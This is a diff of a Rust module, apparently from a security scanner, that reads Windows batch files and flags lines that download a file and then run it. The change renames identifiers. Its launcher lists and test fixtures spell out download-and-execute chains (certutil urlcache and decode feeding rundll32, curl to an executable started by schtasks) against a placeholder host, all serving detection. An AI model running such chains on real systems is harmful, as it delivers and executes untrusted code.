@@ -1,16 +1,16 @@
-//! Reads Windows batch files line by line and records what they do as acts.
+//! Reads Windows batch files line by line and records what they do as actions.
 
 use std::collections::HashMap;
 
 use savoir_skill::Span;
 
 use super::{
-    act::{Act, Acts, CodeOrigin, Taint},
+    action::{Action, Actions, CodeOrigin, Taint},
     host,
 };
 
 /// Substrings of texts that are written for the Windows command prompt.
-const MARKS: [&str; 14] = [
+const BATCH_MARKERS: [&str; 14] = [
     "@echo off",
     "%temp%",
     "%tmp%",
@@ -28,7 +28,7 @@ const MARKS: [&str; 14] = [
 ];
 
 /// Programs that start the file that is passed to them.
-const STARTERS: [&str; 26] = [
+const LAUNCHERS: [&str; 26] = [
     "start",
     "call",
     "cmd",
@@ -58,7 +58,7 @@ const STARTERS: [&str; 26] = [
 ];
 
 /// Starters that download the file themselves.
-const DIRECT: [&str; 4] = ["mshta", "msiexec", "regsvr32", "rundll32"];
+const DOWNLOADING_LAUNCHERS: [&str; 4] = ["mshta", "msiexec", "regsvr32", "rundll32"];
 
 /// Maximum length of a variable, and of a line with variables expanded.
 const MAX_LINE_BYTES: usize = 8 * 1024;
@@ -72,12 +72,12 @@ pub(super) fn is_batch(path: &str, text: &str) -> bool {
         return true;
     }
     let lower = text.to_ascii_lowercase();
-    MARKS.iter().any(|mark| lower.contains(mark))
+    BATCH_MARKERS.iter().any(|mark| lower.contains(mark))
 }
 
 /// Reads a text as a batch file.
-pub(super) fn read(text: &str, acts: &mut Acts) {
-    let mut reader = Reader::default();
+pub(super) fn read(text: &str, actions: &mut Actions) {
+    let mut reader = BatchReader::default();
     let mut at = 0;
     let mut joined = String::new();
     let mut start = 0;
@@ -94,42 +94,42 @@ pub(super) fn read(text: &str, acts: &mut Acts) {
         }
         let span = Span::new(start, start.max(at - 1));
         if joined.is_empty() {
-            reader.line(line, span, acts);
+            reader.read_line(line, span, actions);
         } else {
             joined.push_str(line);
-            reader.line(&std::mem::take(&mut joined), span, acts);
+            reader.read_line(&std::mem::take(&mut joined), span, actions);
         }
     }
-    reader.line(&joined, Span::new(start, at), acts);
+    reader.read_line(&joined, Span::new(start, at), actions);
 }
 
 #[derive(Default)]
-struct Reader {
+struct BatchReader {
     variables: HashMap<String, String>,
     /// Download address of each file, by lower-case path.
     files: HashMap<String, String>,
 }
 
-impl Reader {
-    fn line(&mut self, line: &str, span: Span, acts: &mut Acts) {
+impl BatchReader {
+    fn read_line(&mut self, line: &str, span: Span, actions: &mut Actions) {
         let trimmed = line.trim_start_matches([' ', '\t', '@']);
         let lower = trimmed.get(..4).unwrap_or(trimmed).to_ascii_lowercase();
         if lower.starts_with("rem ") || lower.starts_with("::") {
             return;
         }
-        let line = self.filled(trimmed, acts);
-        for command in commands(&line) {
-            self.command(&words(command), 0, span, acts);
+        let line = self.expand_variables(trimmed, actions);
+        for command in split_commands(&line) {
+            self.read_command(&split_words(command), 0, span, actions);
         }
     }
 
     /// Expands the variables in a line: `%NAME%`, `!NAME!`.
-    fn filled(&self, line: &str, acts: &mut Acts) -> String {
+    fn expand_variables(&self, line: &str, actions: &mut Actions) -> String {
         let mut filled = String::new();
         let mut rest = line;
         while let Some(at) = rest.find(['%', '!']) {
             if filled.len() > MAX_LINE_BYTES {
-                acts.is_cut = true;
+                actions.is_cut = true;
                 break;
             }
             let mark = &rest[at..=at];
@@ -150,9 +150,9 @@ impl Reader {
         filled
     }
 
-    fn command(&mut self, words: &[&str], depth: usize, span: Span, acts: &mut Acts) {
+    fn read_command(&mut self, words: &[&str], depth: usize, span: Span, actions: &mut Actions) {
         if depth > MAX_NESTED_COMMANDS {
-            acts.is_cut = true;
+            actions.is_cut = true;
             return;
         }
         let Some((first, rest)) = words.split_first() else { return };
@@ -164,35 +164,37 @@ impl Reader {
             "if" | "else" | "do" | "for" | "in" | "not" | "exist" => {
                 let next = rest.iter().position(|word| is_command(word));
                 if let Some(next) = next {
-                    self.command(&rest[next..], depth + 1, span, acts);
+                    self.read_command(&rest[next..], depth + 1, span, actions);
                 }
                 return;
             }
-            "set" => return self.set(rest),
+            "set" => return self.assign_variable(rest),
             _ => {}
         }
         let url = || {
-            rest.iter().find_map(|word| host::urls(word).first().map(|(_, url)| (*url).to_owned()))
+            rest.iter()
+                .find_map(|word| host::find_urls(word).first().map(|(_, url)| (*url).to_owned()))
         };
         let lower: Vec<String> = rest.iter().map(|word| word.to_ascii_lowercase()).collect();
         let has = |part: &str| lower.iter().any(|word| word.contains(part));
         match name {
             "certutil" if has("urlcache") || has("verifyctl") => {
-                self.fetched(url(), rest, span, acts);
+                self.record_download(url(), rest, span, actions);
             }
-            "certutil" if has("-decode") || has("/decode") => self.copied(rest),
-            "bitsadmin" => self.fetched(url(), rest, span, acts),
+            "certutil" if has("-decode") || has("/decode") => self.record_copy(rest),
+            "bitsadmin" => self.record_download(url(), rest, span, actions),
             "curl" | "wget" => {
                 let to = rest.windows(2).find(|pair| {
                     pair[0].starts_with('-')
                         && (pair[0].ends_with(['o', 'O']) || pair[0].starts_with("--output"))
                 });
-                let kept = url()
+                let target_url = url()
                     .filter(|_| to.is_some() || has("-o") || name == "wget" || has("--remote"));
-                if let Some(from) = kept {
+                if let Some(from) = target_url {
                     let own = from.rsplit('/').next().unwrap_or_default().to_owned();
-                    self.files.insert(key(to.map_or(own.as_str(), |pair| pair[1])), from.clone());
-                    self.files.insert(key(&own), from);
+                    self.files
+                        .insert(path_key(to.map_or(own.as_str(), |pair| pair[1])), from.clone());
+                    self.files.insert(path_key(&own), from);
                 }
             }
             "powershell" | "pwsh"
@@ -202,42 +204,42 @@ impl Reader {
                     let parts = rest
                         .iter()
                         .flat_map(|word| word.split(['"', '\'', ' ', ',', '(', ')', ';']));
-                    for part in parts.filter(|part| is_file(part)) {
-                        self.files.insert(key(part), from.clone());
+                    for part in parts.filter(|part| is_file_path(part)) {
+                        self.files.insert(path_key(part), from.clone());
                     }
                 }
             }
             "copy" | "move" | "ren" | "rename" | "xcopy" | "expand" | "tar" | "robocopy"
             | "type" => {
-                self.copied(rest);
+                self.record_copy(rest);
             }
             _ => {}
         }
-        let from = self.files.get(&key(first)).cloned();
-        let given = || rest.iter().find_map(|word| self.known(word));
-        let starts = STARTERS.contains(&name);
-        let direct = url().filter(|_| DIRECT.contains(&name));
-        if let Some(from) = from.or_else(|| given().filter(|_| starts)).or(direct) {
-            acts.push(Act::Executes(CodeOrigin::Fetched(from)), span);
+        let from = self.files.get(&path_key(first)).cloned();
+        let started_url = || rest.iter().find_map(|word| self.download_address_of(word));
+        let starts = LAUNCHERS.contains(&name);
+        let direct = url().filter(|_| DOWNLOADING_LAUNCHERS.contains(&name));
+        if let Some(from) = from.or_else(|| started_url().filter(|_| starts)).or(direct) {
+            actions.push(Action::ExecutesCode(CodeOrigin::Fetched(from)), span);
         }
         if starts && rest.len() > 1 {
             let next = rest.iter().position(|word| is_command(word) && !word.starts_with('/'));
             if let Some(next) = next {
-                self.command(&rest[next..], depth + 1, span, acts);
+                self.read_command(&rest[next..], depth + 1, span, actions);
             }
         }
     }
 
     /// Returns the download address of the file that a word names: `x.dll,Entry`, `/i:x.sct`,
     /// `-File x.ps1`.
-    fn known(&self, word: &str) -> Option<String> {
+    fn download_address_of(&self, word: &str) -> Option<String> {
         let plain = word.split(',').next().unwrap_or(word);
         let named = plain.split_once(':').map_or(plain, |(_, file)| file);
-        [word, plain, named].iter().find_map(|word| self.files.get(&key(word)).cloned())
+        [word, plain, named].iter().find_map(|word| self.files.get(&path_key(word)).cloned())
     }
 
     /// Evaluates `set NAME=value` and `set "NAME=value"`.
-    fn set(&mut self, rest: &[&str]) {
+    fn assign_variable(&mut self, rest: &[&str]) {
         let text = rest.join(" ");
         let Some((name, value)) = text.split_once('=') else { return };
         if value.len() < MAX_LINE_BYTES && !value.is_empty() {
@@ -247,36 +249,44 @@ impl Reader {
 
     /// Records a download. The target file is the last word that is neither an option nor an
     /// address.
-    fn fetched(&mut self, url: Option<String>, rest: &[&str], span: Span, acts: &mut Acts) {
+    fn record_download(
+        &mut self,
+        url: Option<String>,
+        rest: &[&str],
+        span: Span,
+        actions: &mut Actions,
+    ) {
         let Some(from) = url else { return };
         let file = rest
             .iter()
             .rev()
             .find(|word| !word.contains("://") && !word.starts_with('-') && !word.starts_with('>'));
         let own = from.rsplit('/').next().unwrap_or_default().to_owned();
-        self.files.insert(key(file.map_or(own.as_str(), |file| file)), from.clone());
+        self.files.insert(path_key(file.map_or(own.as_str(), |file| file)), from.clone());
         let sends = Taint::default();
-        acts.push(Act::Network { to: from, sends, log_in: Vec::new() }, span);
+        actions.push(Action::Connects { to: from, sends, log_in: Vec::new() }, span);
     }
 
     /// Marks the copy of a downloaded file as downloaded.
-    fn copied(&mut self, rest: &[&str]) {
-        let Some(from) = rest.iter().find_map(|word| self.known(word)) else { return };
+    fn record_copy(&mut self, rest: &[&str]) {
+        let Some(from) = rest.iter().find_map(|word| self.download_address_of(word)) else {
+            return;
+        };
         if let Some(to) = rest.iter().rev().find(|word| !word.starts_with(['-', '/', '>'])) {
-            self.files.insert(key(to), from);
+            self.files.insert(path_key(to), from);
         }
     }
 }
 
 /// Normalizes a path for use as a key.
-fn key(path: &str) -> String {
+fn path_key(path: &str) -> String {
     let path =
         path.trim_matches(['"', '\'', '(', ')', '@']).to_ascii_lowercase().replace('\\', "/");
     path.trim_start_matches("./").trim_start_matches("%cd%/").to_owned()
 }
 
 /// Whether a word of a PowerShell command is the path of a file.
-fn is_file(word: &str) -> bool {
+fn is_file_path(word: &str) -> bool {
     !word.contains("://")
         && !word.starts_with('-')
         && word.rsplit(['/', '\\']).next().is_some_and(|name| {
@@ -292,11 +302,11 @@ fn is_command(word: &str) -> bool {
     let name = name.to_ascii_lowercase();
     let name = name.strip_suffix(".exe").unwrap_or(&name);
     let others = ["certutil", "bitsadmin", "curl", "wget", "set", "copy", "move", "ren", "expand"];
-    STARTERS.contains(&name) || others.contains(&name)
+    LAUNCHERS.contains(&name) || others.contains(&name)
 }
 
 /// Splits a line into commands at `&`, `|` and brackets outside quotes.
-fn commands(line: &str) -> Vec<&str> {
+fn split_commands(line: &str) -> Vec<&str> {
     let mut found = Vec::new();
     let (mut start, mut quoted) = (0, false);
     for (at, byte) in line.bytes().enumerate() {
@@ -314,7 +324,7 @@ fn commands(line: &str) -> Vec<&str> {
 }
 
 /// Splits a command into words, without quotes and `^`.
-fn words(command: &str) -> Vec<&str> {
+fn split_words(command: &str) -> Vec<&str> {
     let mut found = Vec::new();
     let (mut start, mut quoted) = (0, false);
     for (at, byte) in command.bytes().enumerate() {
@@ -343,14 +353,17 @@ fn words(command: &str) -> Vec<&str> {
 mod tests {
     use super::*;
 
-    fn started(text: &str) -> bool {
-        let mut acts = Acts::default();
-        read(text, &mut acts);
-        acts.located.iter().any(|seen| matches!(seen.act, Act::Executes(CodeOrigin::Fetched(_))))
+    fn starts_download(text: &str) -> bool {
+        let mut actions = Actions::default();
+        read(text, &mut actions);
+        actions
+            .located
+            .iter()
+            .any(|seen| matches!(seen.action, Action::ExecutesCode(CodeOrigin::Fetched(_))))
     }
 
     #[test]
-    fn what_is_fetched_and_started() {
+    fn starting_a_downloaded_file_is_found() {
         for text in [
             "certutil -urlcache -split -f http://a.example/x \"%TEMP%\\v.b64\" >nul\ncertutil -decode \"%TEMP%\\v.b64\" \"%TEMP%\\v.dll\" >nul\nstart \"\" /b rundll32 \"%TEMP%\\v.dll\",Go",
             "certutil.exe -urlcache -f https://a.example/x.exe x.exe & x.exe",
@@ -367,7 +380,7 @@ mod tests {
             "curl ^\n -o a.py ^\n https://a.example/x\npython a.py",
             "@curl -o a.exe https://a.example/x\nschtasks /create /tn x /tr a.exe",
         ] {
-            assert!(started(text), "{text}");
+            assert!(starts_download(text), "{text}");
         }
         for text in [
             "curl -o data.json https://a.example/x\ntype data.json",
@@ -377,20 +390,20 @@ mod tests {
             "python build.py --url https://a.example",
             "msiexec /i local.msi",
         ] {
-            assert!(!started(text), "{text}");
+            assert!(!starts_download(text), "{text}");
         }
     }
 
     #[test]
-    fn values_that_grow_are_cut() {
+    fn growing_variables_are_truncated() {
         let mut text = format!("set A={}\n", "x".repeat(4000));
         text.push_str("echo ");
         text.push_str(&"%A%".repeat(20_000));
-        let mut acts = Acts::default();
-        read(&text, &mut acts);
-        assert!(acts.is_cut);
-        let mut acts = Acts::default();
-        read(&"start ".repeat(100_000), &mut acts);
-        assert!(acts.is_cut);
+        let mut actions = Actions::default();
+        read(&text, &mut actions);
+        assert!(actions.is_cut);
+        let mut actions = Actions::default();
+        read(&"start ".repeat(100_000), &mut actions);
+        assert!(actions.is_cut);
     }
 }
